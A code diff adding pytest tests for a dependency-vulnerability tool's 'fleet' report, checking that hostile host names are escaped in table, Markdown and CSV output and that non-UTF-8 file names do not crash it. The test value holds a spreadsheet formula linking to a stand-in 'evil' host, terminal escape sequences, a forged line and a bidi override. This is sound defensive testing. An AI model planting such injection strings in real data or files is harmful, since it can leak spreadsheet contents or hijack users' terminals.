@@ -233,3 +233,96 @@ def test_the_summary_counts_one_dependent_and_none_in_words() -> None:
     assert "library vulnerable; 1 dependent (1 low)" in one and "1 dependents" not in one
     none = _text_report("--root", scenario("ubuntu-9.04-armel"))
     assert none.endswith("library not-installed; no dependents")
+
+
+# --- text from the data, escaped (issue 23) --------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil/"&A1)\x1b]0;owned\x07\x1b[2J\nforged line|\u202e\x9b'
+"""A host name or title as an attacker would write it: a spreadsheet formula, an OSC (window
+title) and a CSI (clear screen), a newline, a Markdown cell end, a right-to-left override, a C1 CSI."""
+
+
+def _hostile_snapshot(path: Path, host: str) -> None:
+    """A ``depgraph-snapshot/1`` tarball of a 2014 tree whose manifest names ``host``."""
+    import tarfile
+
+    root = scenario("ubuntu-14.04-core-armhf")
+    manifest = {
+        "format": "depgraph-snapshot/1",
+        "host": host,
+        "time": "2014-04-08T12:00:00+00:00",
+        "kernel": "Linux",
+        "collector": "test",
+        "libraries": ["libssl1.0.0"],
+        "captured": ["dpkg-status"],
+        "missing": [{"what": "proc", "why": "a saved tree has no processes"}],
+    }
+    with tarfile.open(path, "w:gz") as tar:
+        tar.add(root / "var/lib/dpkg/status", arcname="var/lib/dpkg/status")
+        data = json.dumps(manifest).encode()
+        info = tarfile.TarInfo("depgraph-snapshot/manifest.json")
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+
+
+def _assert_inert(text: str) -> None:
+    """No control character but the newline, no bidi override, no raw forged line."""
+    for char in text:
+        code = ord(char)
+        assert char == "\n" or not (code < 0x20 or 0x7F <= code <= 0x9F), repr(char)
+        assert not (0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069), repr(char)
+    assert not any(line.startswith("forged line") for line in text.splitlines()), text
+
+
+@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
+def test_fleet_escapes_a_snapshots_host_name(tmp_path: Path, fmt: str) -> None:
+    snapshot = tmp_path / "host.tar.gz"
+    _hostile_snapshot(snapshot, HOSTILE)
+    done = run_depgraph("fleet", "--jobs", "1", "--no-cache", snapshot, "--format", fmt)
+    assert done.status in (0, 1), done.stderr
+    _assert_inert(done.stdout)
+    assert "\\e]0;owned\\x07" in done.stdout, done.stdout
+    if fmt == "csv":
+        import csv
+
+        rows = list(csv.reader(io.StringIO(done.stdout)))
+        assert len(rows) == 2, rows  # the newline did not make a row
+        assert rows[1][0].startswith("'=HYPERLINK("), rows[1][0]
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    if fmt == "markdown":
+        assert "forged line\\|" in done.stdout, done.stdout
+
+
+def test_fleet_prints_a_non_utf8_host_file_name_escaped(tmp_path: Path) -> None:
+    """A host file whose name is not UTF-8 ended in ``internal error: UnicodeEncodeError``."""
+    import os
+    import shutil
+    import subprocess
+    import sys
+
+    status = scenario("ubuntu-14.04-core-armhf") / "var/lib/dpkg/status"
+    odd = os.fsencode(tmp_path) + b"/web\xff.status"
+    shutil.copyfile(status, odd)
+    environment = {k: v for k, v in os.environ.items() if k != "DEPGRAPH_DEBUG"}
+    for fmt in (b"table", b"csv", b"markdown", b"json"):
+        done = subprocess.run(
+            [
+                sys.executable,
+                b"-m",
+                b"depgraph",
+                b"fleet",
+                b"--jobs",
+                b"1",
+                b"--no-cache",
+                odd,
+                b"--format",
+                fmt,
+            ],
+            capture_output=True,
+            env=environment,
+            check=False,
+        )
+        assert done.returncode in (0, 1), done.stderr
+        assert b"internal error" not in done.stderr, done.stderr
+        if fmt != b"json":
+            assert b"web\\xff" in done.stdout, done.stdout
